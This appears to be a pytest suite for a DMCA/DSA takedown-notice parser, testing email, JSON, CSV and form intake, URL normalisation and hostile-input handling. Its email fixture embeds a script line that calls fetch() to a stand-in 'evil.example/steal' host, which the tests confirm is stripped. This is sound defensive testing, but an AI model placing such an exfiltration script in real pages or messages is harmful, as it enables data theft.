"""Notice intake: every input format, URL normalisation, hostile input, and the re-ingest identity."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from compliance.errors import InputError
from compliance.takedown.notices.profiles import GITHUB
from compliance.takedown.notices.intake import parse_bytes, parse_file
from compliance.takedown.notices.mail import MAX_ATTACHMENTS
from compliance.takedown.notices.kinds import detect_kind, detect_regime
from compliance.takedown.notices.parties import extract_parties, extract_works
from compliance.takedown.notices.urls import classify_urls, extract_urls, normalise_url, written_key
from compliance.urls import match_key

EML = b"""From: Rights Desk <rights@example-studio.com>
To: copyright@example-host.com
Subject: DMCA notice: infringing copies of Moon Atlas
Date: Tue, 02 Jan 2024 10:00:00 +0000
This line is not a header and has no colon
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="XYZ"

--XYZ
Content-Type: text/html; charset=utf-8

<html><head><style>p {color: red}</style><script>fetch('https://evil.example/steal')</script></head>
<body><p>We are the copyright owner of Moon Atlas. The original work is at
<a href="https://example-studio.com/moon-atlas">our website</a>.</p>
<p>Please remove the following infringing copies:</p>
<ul><li>https://github.com/pirate/moon-atlas</li><li>https://github.com/pirate2/moon-atlas-copy</li></ul>
<p>I have a good faith belief that this use is not authorized. Under penalty of perjury, the information is accurate.</p>
<img src="https://tracker.example/pixel.gif"></body></html>
--XYZ
Content-Type: text/plain; name="list.txt"
Content-Disposition: attachment; filename="list.txt"

https://github.com/pirate3/moon-atlas
--XYZ
Content-Type: application/pdf; name="letter.pdf"
Content-Disposition: attachment; filename="letter.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKJcfsj6IKNSAwIG9iago8PC9MZW5ndGggNiAwIFI+PgpzdHJlYW0K
--XYZ--
"""

FORM = """**Are you the copyright owner or authorized to act on the copyright owner's behalf?**
Yes, I am the owner of ACME Widgets.

**What work was allegedly infringed? If possible, please provide a URL:**
ACME Widget source code, https://acme.example/widgets and https://github.com/acme/widgets

**What files should be taken down? Please provide URLs for each file, or if the entire repository, the repository's URL:**
https://github.com/copycat/widgets
github.com/copycat2/widgets.

**Do you have the alleged infringer's contact information? If so, please provide it:**
https://github.com/copycat

**Please confirm that you have you have read our Guide to Submitting a DMCA Takedown Notice: https://help.github.com/articles/guide-to-submitting-a-dmca-takedown-notice/**
Yes

**Please type your full legal name below to sign this request:**
[private]
"""

DSA = """Notice under Article 16 of Regulation (EU) 2022/2065 (Digital Services Act)

Explanation: the listed pages reproduce our photographs without a licence, which is illegal content under
copyright law. Exact electronic location of the illegal content:
- https://www.example-host.eu/gallery/123
- https://www.example-host.eu/gallery/124?ref=a&amp;b=1

Notifier: Bildagentur Nord GmbH, Hafenstrasse 1, 20457 Hamburg, legal@bildagentur.example
I confirm my bona fide belief that the information and allegations in this notice are accurate and complete.
"""


def test_eml_html_body_is_untrusted_text_attachments_recorded_and_defects_kept() -> None:
    [notice] = parse_bytes(EML, "notice.eml")
    assert notice.source_format == "eml"
    assert notice.sender == "rights@example-studio.com"
    assert notice.subject and "Moon Atlas" in notice.subject
    assert notice.received_at is not None and notice.received_at.year == 2024
    assert notice.defects, "the stray header line must be recorded as a defect"
    assert "fetch(" not in notice.text and "color: red" not in notice.text
    infringing = [u.normalised for u in notice.urls if u.role == "infringing"]
    assert "https://github.com/pirate/moon-atlas" in infringing
    assert "https://github.com/pirate3/moon-atlas" in infringing  # from the text/plain attachment
    assert "https://example-studio.com/moon-atlas" in [u.normalised for u in notice.urls if u.role == "original_work"]
    assert not any("evil.example" in (u.as_written or "") for u in notice.urls)
    kept = {a["name"]: (a["kept"], a.get("read", False)) for a in notice.attachments}
    assert kept == {"list.txt": (True, True), "letter.pdf": (True, False)}  # both kept as evidence; text read
    assert [name for name, _ in notice.files] == ["list.txt", "letter.pdf"]
    assert notice.kind == "notice" and notice.regime == "dmca"


def test_eml_attachment_count_is_capped() -> None:
    parts = "".join(
        f'--B\nContent-Type: text/plain\nContent-Disposition: attachment; filename="a{i}.txt"\n\nhello {i}\n'
        for i in range(MAX_ATTACHMENTS + 5))
    raw = f"From: a@b.example\nSubject: notice\nContent-Type: multipart/mixed; boundary=B\n\n{parts}--B--\n"
    [notice] = parse_bytes(raw.encode(), "many.eml")
    assert len(notice.attachments) == MAX_ATTACHMENTS + 5
    assert sum(a["kept"] for a in notice.attachments) == MAX_ATTACHMENTS
    assert not any(a["kept"] for a in notice.attachments[MAX_ATTACHMENTS:])
    assert sum("cap" in d for d in notice.defects) == 5


def test_json_list_lumen_like(tmp_path: Path) -> None:
    data = [
        {"title": "DMCA notice to Host", "type": "DMCA", "date_sent": "2023-05-01T10:00:00Z",
         "sender_name": "Agency X", "principal_name": "Studio Y",
         "works": [{"description": "Film Z", "copyrighted_urls": [{"url": "https://studio-y.example/z"}],
                    "infringing_urls": [{"url": "https://host.example/watch/1"}, {"url": "host.example/watch/2"}]}]},
        {"notice": {"title": "Counter notice", "body": "This is a counter notice under 512(g). I consent to the "
                    "jurisdiction of the court. https://host.example/watch/1 was removed by mistake or "
                    "misidentification."}},
    ]
    path = tmp_path / "notices.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    first, second = parse_file(path)
    assert [u.normalised for u in first.urls if u.role == "infringing"] == [
        "https://host.example/watch/1", "http://host.example/watch/2"]
    assert [u.normalised for u in first.urls if u.role == "original_work"] == ["https://studio-y.example/z"]
    assert first.works == ["Film Z"]
    assert first.parties["complainant"] == "Agency X" and first.parties["principal"] == "Studio Y"
    assert first.received_at is not None and first.record_index == 0
    assert second.kind == "counter_notice" and second.record_index == 1
    assert first.content_sha256 != second.content_sha256


def test_csv_bulk_rows_with_300_urls_in_one_cell(tmp_path: Path) -> None:
    many = "\n".join(f"https://host.example/file/{i}" for i in range(300))
    rows = [
        ["title", "date_sent", "sender_name", "works", "infringing_urls", "original_urls", "type", "jurisdiction"],
        ["Notice 1", "2023-01-01", "A", "Book 1", many, "https://pub.example/book1", "notice", "US"],
        ["Notice 2", "2023-01-02", "B", "Book 2", "https://host.example/a; https://host.example/b", "", "", "EU"],
        ["Retraction", "2023-01-03", "C", "Book 3", "https://host.example/c [private]", "", "retraction", ""],
    ]
    import csv
    import io
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    path = tmp_path / "bulk.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    notices = parse_file(path)
    assert len(notices) == 3
    assert len([u for u in notices[0].urls if u.role == "infringing"]) == 300
    assert notices[0].regime == "dmca" and notices[1].regime == "dsa"
    assert [u.normalised for u in notices[1].urls if u.role == "infringing"] == [
        "https://host.example/a", "https://host.example/b"]
    assert notices[2].kind == "retraction"
    assert any(u.redacted and u.normalised is None for u in notices[2].urls)
    again = parse_file(path)
    assert [n.content_sha256 for n in again] == [n.content_sha256 for n in notices]
    assert len({n.content_sha256 for n in notices}) == 3


def test_web_form_dump() -> None:
    [notice] = parse_bytes(FORM.encode(), "2024-01-01-acme.md")
    assert notice.source_format == "form"
    roles = {u.normalised: u.role for u in notice.urls}
    assert roles["https://github.com/copycat/widgets"] == "infringing"
    assert roles["http://github.com/copycat2/widgets"] == "infringing"
    assert roles["https://acme.example/widgets"] == "original_work"
    assert roles["https://github.com/acme/widgets"] == "original_work"
    assert roles["https://github.com/copycat"] == "other"
    assert roles["https://help.github.com/articles/guide-to-submitting-a-dmca-takedown-notice/"] == "other"
    assert notice.parties["principal"] == "ACME Widgets"
    assert notice.works and notice.works[0].startswith("ACME Widget source code")


def test_dsa_notice_in_plain_text() -> None:
    [notice] = parse_bytes(DSA.encode(), "dsa.txt")
    assert notice.regime == "dsa" and notice.kind == "notice" and notice.source_format == "txt"
    assert [u.normalised for u in notice.urls if u.role == "infringing"] == [
        "https://www.example-host.eu/gallery/123", "https://www.example-host.eu/gallery/124?ref=a&b=1"]
    assert notice.parties["email"] == "legal@bildagentur.example"


def test_reingest_identity_is_the_file_bytes(tmp_path: Path) -> None:
    path = tmp_path / "letter.txt"
    path.write_text(DSA, encoding="utf-8")
    assert parse_file(path)[0].content_sha256 == parse_bytes(DSA.encode(), "other-name.txt")[0].content_sha256


# --- URLs ----------------------------------------------------------------------------------------------------------

NORMALISE = [
    ("https://GitHub.com/User/Repo", "https://github.com/User/Repo"),
    ("HTTP://Example.COM:80/a", "http://example.com/a"),
    ("https://example.com:443/a", "https://example.com/a"),
    ("https://example.com:8443/a", "https://example.com:8443/a"),
    ("https://example.com/a#section-2", "https://example.com/a"),
    ("https://example.com", "https://example.com/"),
    ("www.example.com/path", "http://www.example.com/path"),
    ("github.com/user/repo", "http://github.com/user/repo"),
    ("https://example.com/a%2fb", "https://example.com/a%2Fb"),
    ("https://example.com/%7Euser", "https://example.com/~user"),
    ("https://example.com/?q=a%26b", "https://example.com/?q=a%26b"),
    ("https://example.com/?a=1&amp;b=2", "https://example.com/?a=1&b=2"),
    ("https://bücher.example/straße", "https://xn--bcher-kva.example/stra%C3%9Fe"),
    ("https://example.com/中文", "https://example.com/%E4%B8%AD%E6%96%87"),
    ("https://example.com/%e4%b8%ad%e6%96%87", "https://example.com/%E4%B8%AD%E6%96%87"),
    ("https://github.com/[private]/repo", None),
    ("[private]", None),
    ("https://[invalid]", None),
    ("mailto:someone@example.com", None),
    ("ftp://example.com/file", None),
    ("https://example.com/a b.pdf", "https://example.com/a%20b.pdf"),
    ("https://example.com/path/", "https://example.com/path/"),
]


@pytest.mark.parametrize(("raw", "expected"), NORMALISE)
def test_normalise_url(raw: str, expected: str | None) -> None:
    assert normalise_url(raw) == expected


EXTRACT = [
    ("see https://example.com/a.", ["https://example.com/a"]),
    ("(https://example.com/a)", ["https://example.com/a"]),
    ("[https://example.com/a]", ["https://example.com/a"]),
    ("<https://example.com/a>", ["https://example.com/a"]),
    ('"https://example.com/a",', ["https://example.com/a"]),
    ("[text](https://example.com/a)", ["https://example.com/a"]),
    ("https://en.wikipedia.org/wiki/Foo_(bar) and more", ["https://en.wikipedia.org/wiki/Foo_(bar)"]),
    ("bare www.example.com/x; then github.com/u/r!", ["www.example.com/x", "github.com/u/r"]),
    ("mail copyright@github.com please", []),
    ("https://github.com/[private]/repo", ["https://github.com/[private]/repo"]),
    ("**https://example.com/a**", ["https://example.com/a"]),
    ("https://example.com/a，下一个", ["https://example.com/a"]),
    ("https://github.com/u/r/blob/master/\n  docs/file.css", ["https://github.com/u/r/blob/master/docs/file.css"]),
    ("https://github.com/u/r/blob/master/My Book (2nd Edition).pdf",
     ["https://github.com/u/r/blob/master/My Book (2nd Edition).pdf"]),
    ("https://github.com/u/r is infringing my file.txt", ["https://github.com/u/r"]),
]


@pytest.mark.parametrize(("text", "expected"), EXTRACT)
def test_extract_urls(text: str, expected: list[str]) -> None:
    assert extract_urls(text) == expected


def test_match_key_ignores_scheme_www_and_trailing_slash() -> None:
    assert match_key("http://www.Example.com/a/") == match_key("https://example.com/a") == "example.com/a"
    assert match_key("https://github.com/u/r.git") == "github.com/u/r"


def test_redaction_instead_of_a_url_is_kept_as_redacted() -> None:
    text = "Please remove the following infringing URLs:\n- https://github.com/a/b\n- [private]\n"
    urls = classify_urls(text)
    assert [(u.role, u.redacted, u.normalised) for u in urls] == [
        ("infringing", False, "https://github.com/a/b"), ("infringing", True, None)]


def test_roles_dedupe_per_role_in_first_occurrence_order() -> None:
    text = ("Our original work: https://studio.example/a\nInfringing copies:\nhttps://github.com/x/y\n"
            "https://github.com/x/y/\nhttps://github.com/z/w\n")
    urls = classify_urls(text)
    assert [(u.role, u.normalised) for u in urls] == [
        ("original_work", "https://studio.example/a"), ("infringing", "https://github.com/x/y"),
        ("infringing", "https://github.com/z/w")]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=300)
       | st.lists(st.sampled_from(["https://", "www.", "github.com/", "[private]", "(", ")", "<", ">", " ", "\n",
                                   "%26", "&amp;", "é", "a", "/", ".", ":", "80", "]", "*"]), max_size=60).map("".join))
def test_extract_urls_never_raises_and_normalised_urls_are_http(text: str) -> None:
    for url in extract_urls(text):
        normalised = normalise_url(url)
        assert normalised is None or normalised.startswith(("http://", "https://"))
    for item in classify_urls(text):
        assert item.normalised is None or item.normalised.startswith(("http://", "https://"))


# --- kinds, regimes, parties -----------------------------------------------------------------------------------------

def test_kind_from_text_with_name_only_as_tiebreak() -> None:
    assert detect_kind("I consent to the jurisdiction of Federal District Court ... mistake or misidentification",
                       {"name": "x.md"}) == "counter_notice"
    assert detect_kind("We would like to retract our DMCA notice for this repository.", {}) == "retraction"
    assert detect_kind("GitHub has reconsidered the takedown notice previously processed.", {}, GITHUB) == "reversal"
    assert detect_kind("We have reconsidered the takedown notice previously processed.", {}) == "reversal"
    assert detect_kind("Please remove these infringing copies.", {"name": "2020-01-01-acme-retraction.md"}) == "notice"
    assert detect_kind("See the attached.", {"name": "2020-01-01-acme-counternotice.md"}) == "counter_notice"
    assert detect_kind("", {}) == "other"


def test_regime() -> None:
    assert detect_regime("notice under the Digital Services Act") == "dsa"
    assert detect_regime("pursuant to 17 U.S.C. 512(c)") == "dmca"
    assert detect_regime("I have a good faith belief ... under penalty of perjury") == "dmca"
    assert detect_regime("please take this down") == "other"


def test_parties_and_works_from_a_letter() -> None:
    text = ("Cyveillance is authorized to act on behalf of QUALCOMM Incorporated in requesting removal.\n"
            "Email: [private]\nPhone: +1 555 010 0000\n1825 S. Grant Street\nSuite 600\n"
            "Original Work: Getting More\n")
    parties = extract_parties(text, None, {})
    assert parties["agent"] == "Cyveillance"
    assert parties["principal"] == "QUALCOMM Incorporated"
    assert parties["contact"] and "Suite 600" in parties["contact"]
    assert extract_works(text) == ["Getting More"]


# --- hostile input ---------------------------------------------------------------------------------------------------

def test_oversized_file_is_refused_with_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "huge.txt"
    path.write_bytes(b"a" * (10 * 1024 * 1024))
    with pytest.raises(InputError) as info:
        parse_file(path)
    assert "huge.txt" in info.value.one_line() and "MB" in info.value.one_line()


def test_binary_garbage_is_refused() -> None:
    with pytest.raises(InputError, match="binary"):
        parse_bytes(bytes(range(256)) * 40, "blob.txt")


def test_empty_and_missing_files(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="empty"):
        parse_bytes(b"  \n", "empty.md")
    with pytest.raises(InputError, match="nope.eml"):
        parse_file(tmp_path / "nope.eml")


def test_malformed_json_names_the_line() -> None:
    with pytest.raises(InputError) as info:
        parse_bytes(b'[\n{"title": "a"},\n{"title": }\n]', "bad.json")
    assert "bad.json" in info.value.message and "line 3" in info.value.message


def test_malformed_csv_names_the_row() -> None:
    data = b'title,infringing_urls\nok,https://a.example/1\nbad,https://a.example/2,extra\n'
    with pytest.raises(InputError) as info:
        parse_bytes(data, "bad.csv")
    assert "bad.csv" in info.value.message and "row 3" in info.value.message
    with pytest.raises(InputError, match="line"):
        parse_bytes(b'title,infringing_urls\n"unterminated,https://a.example\n', "quote.csv")


def test_outlook_binary_msg_is_refused() -> None:
    with pytest.raises(InputError) as info:
        parse_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "mail.msg")
    assert "mail.msg" in info.value.one_line() and ".eml" in info.value.one_line()


# --- held-out review (other years of the same public source): general rules, synthetic cases --------------------

_Q_WORK = ("**Please provide a detailed description of the original copyrighted work that has allegedly been infringed."
           " If possible, include a URL to where it is posted online.**")
_Q_FILES = ("**What files should be taken down? Please provide URLs for each file, or if the entire repository, the"
            " repository’s URL.**")
_ANNOTATION = ("Before disabling any content in relation to this takedown notice, GitHub\n- contacted the owners of"
               " some or all of the affected repositories to give them an opportunity to make changes.\n- provided"
               " information on how to [submit a DMCA Counter Notice](https://docs.github.com/en/articles/x).\n\n")
_TAKEDOWN_FORM = (f"{_Q_WORK}\n\nOur board game rules engine Quarrel.\n\n{_Q_FILES}\n\n"
                  "https://github.com/copier/quarrel-copy\n[invalid]\nhttps://github.com/[invalid]/quarrel\n"
                  "https://github.com/other-copier/[invalid]\n\n**I have a good faith belief that use of the"
                  " copyrighted materials described above on the infringing web pages is not authorized by the"
                  " copyright owner, or its agent, or the law.**\n\n**I swear, under penalty of perjury, that the information in this"
                  " notification is accurate.**\n")


@pytest.mark.parametrize("prefix", ["", _ANNOTATION, "".join(f"> {line}\n" for line in _ANNOTATION.splitlines()),
                                    ("[Note: Because the parent repository was actively being forked, GitHub processed"
                                     " the takedown notice against the entire fork network of 12 forks.]\n\n")])
def test_platform_processing_notes_do_not_change_the_kind(prefix: str) -> None:
    [notice] = parse_bytes((prefix + _TAKEDOWN_FORM).encode(), "annotated.md", GITHUB)
    assert notice.kind == "notice" and notice.regime == "dmca"
    counter = "I swear, under penalty of perjury, the material was removed as a result of mistake or misidentification."
    counter += " I consent to the jurisdiction of Federal District Court."
    assert detect_kind(prefix + counter, None, GITHUB) == "counter_notice"


def test_invalid_replacing_a_url_is_a_redaction_never_a_target() -> None:
    [notice] = parse_bytes(_TAKEDOWN_FORM.encode(), "invalid.md")
    targets = [u for u in notice.urls if u.role == "infringing"]
    assert [u.normalised for u in targets if u.normalised] == ["https://github.com/copier/quarrel-copy"]
    redacted = [u for u in targets if u.redacted]
    assert len(redacted) == 3 and all(u.normalised is None for u in redacted)
    assert normalise_url("https://github.com/acme/[invalid]") is None and written_key("[invalid]") is None


def test_urls_pasted_without_a_space_are_two_urls() -> None:
    text = ("https://github.com/acme/tool/blob/main/a.pyhttps://github.com/acme/tool/blob/main/b.py and "
            "https://web.archive.org/web/2020/https://example.com/p and https://go.example/r?to=https://example.org/x")
    assert extract_urls(text) == ["https://github.com/acme/tool/blob/main/a.py",
                                  "https://github.com/acme/tool/blob/main/b.py",
                                  "https://web.archive.org/web/2020/https://example.com/p",
                                  "https://go.example/r?to=https://example.org/x"]


def test_the_root_of_a_user_site_on_the_platform_is_material_not_a_home_page() -> None:
    text = ("From the desk of https://www.github.com\nUser responsible: https://github.com/sharer\n"
            "Infringing websites:\nhttps://free-movies-app.github.io/\n")
    roles = {u.normalised: u.role for u in classify_urls(text, service=GITHUB)}
    assert roles["https://free-movies-app.github.io/"] == "infringing"
    assert roles["https://www.github.com/"] == "other" and roles["https://github.com/sharer"] == "other"


def test_an_off_platform_link_under_the_work_question_stays_the_original() -> None:
    text = (f"{_Q_WORK}\n\nThe file being infringed is no longer hosted by me, but newer builds are here:"
            f" https://vendor.example/download/tool-2.0.exe\n\n{_Q_FILES}\n\nhttps://github.com/copier/tool\n")
    roles = {u.normalised: u.role for u in classify_urls(text)}
    assert roles["https://vendor.example/download/tool-2.0.exe"] == "original_work"
    assert roles["https://github.com/copier/tool"] == "infringing"



def test_eml_sender_display_name_is_the_complainant() -> None:
    from compliance.takedown.notices.intake import parse_bytes

    raw = (b"From: Rights Team <rights@publisher.example>\r\nSubject: DMCA notice\r\n"
           b"Content-Type: text/plain\r\n\r\nPlease remove https://digest.example/copy\r\n")
    notice = parse_bytes(raw, "n.eml")[0]
    assert notice.parties["complainant"] == "Rights Team"
    assert notice.sender == "rights@publisher.example"
